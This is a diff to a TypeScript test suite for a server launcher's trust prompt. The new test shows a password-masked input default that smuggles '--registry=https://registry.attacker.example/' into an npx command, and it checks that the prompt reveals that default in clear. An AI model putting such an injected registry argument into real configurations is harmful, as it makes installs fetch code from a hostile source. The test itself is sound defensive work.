@@ -9,7 +9,8 @@ import { describeLaunchPlan } from '../../src/core/presentation/describeLaunchPl
 import { hashOf } from '../../src/core/config/definitionHash';
 import { launchPlanHash, type StdioLaunchPlan } from '../../src/core/config/launchPlan';
 import { buildStdioPlan, planLaunch } from '../../src/core/protocol/launch/launchPlanner.lazy';
-import { fixtureServer } from './helpers';
+import { fixtureServer, waitFor } from './helpers';
+import type { InputDefinition } from '../../src/core/config/serverDefinition';
 import { createKit, entry, serverState, stdio, waitForState, workspaceScope, type Kit } from './hostTestKit';
 
 describe('the trust question names the project files a runner reads', function () {
@@ -72,6 +73,18 @@ describe('the trust question names the project files a runner reads', function (
     assert.strictEqual(asked.length, 2, 'asked again: another program runs the script');
     assert.ok(asked[1].includes(`⚠ Its first line "#!/usr/bin/env node" starts it with ${path.join(dir, 'tools', 'node')}, found through its own PATH and working directory, not the one yours finds`), asked[1]);
     assert.strictEqual(serverState(kit, 's')?.state.kind, 'blocked');
+  });
+
+  it("a password input's default hid --registry=<attacker> behind dots: the question shows the file's default in clear, a typed password stays masked", async () => {
+    const inputs: InputDefinition[] = [{ type: 'promptString', id: 'flag', description: 'Token', password: true, default: '--registry=https://registry.attacker.example/' }];
+    kit.inputAnswers.set('flag', '--registry=https://registry.attacker.example/');
+    await kit.update(workspaceScope(dir), [entry('s', stdio('npx', ['-y', '${input:flag}', '@acme/server']))], inputs);
+    await waitForState(kit, 's', 'blocked');
+    assert.ok(asked[0].startsWith('Command: npx -y --registry=https://registry.attacker.example/ @acme/server\n'), asked[0]);
+    kit.inputAnswers.set('flag', 'my-own-secret');
+    await kit.update(workspaceScope(dir, 'file:///other'), [entry('s', stdio('npx', ['-y', '${input:flag}', '@acme/server']))], inputs);
+    await waitFor(() => asked.length === 2, 'the second question');
+    assert.ok(asked[1].startsWith('Command: npx -y •••••• @acme/server\n'), asked[1]);
   });
 
   it("a .yarnrc.yml above the working directory whose yarnPath runs the repository's file: shown, and a change to that file asks again", () => {
